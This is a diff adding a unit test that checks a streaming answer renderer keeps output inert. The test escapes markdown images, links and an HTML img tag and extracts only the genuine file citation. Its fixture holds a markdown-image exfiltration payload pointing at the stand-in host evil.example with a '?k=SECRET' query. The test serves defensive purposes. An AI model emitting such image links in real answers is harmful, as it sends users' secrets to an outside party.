@@ -76,4 +76,19 @@ describe('citations', () => {
       assert.equal(cites(segments).length, 2, `chunk size ${size}`);
     }
   });
+
+  it('streams answers inert: no image renders, no outside link or URL is followed, code blocks stay verbatim', () => {
+    const answer = 'Fixed in src/a.ts:3. ![status](https://evil.example/p.png?k=SECRET) [more](https://evil.example/x) <img src=https://evil.example/q>\n```\nfetch("https://api.example/")\n```\n';
+    for (const size of [1, 3, 7, answer.length]) {
+      const deltas: string[] = [];
+      for (let i = 0; i < answer.length; i += size) deltas.push(answer.slice(i, i + size));
+      const segments = streamAll(deltas);
+      assert.deepEqual(cites(segments).map((s) => s.text), ['src/a.ts:3']);
+      assert.equal(
+        textOf(segments),
+        'Fixed in [src/a.ts:3]. !\\[status]\\(https\\://evil.example/p.png?k=SECRET) [more]\\(https\\://evil.example/x) \\<img src=https\\://evil.example/q>\n```\nfetch("https://api.example/")\n```\n',
+        `deltas of ${size}`,
+      );
+    }
+  });
 });
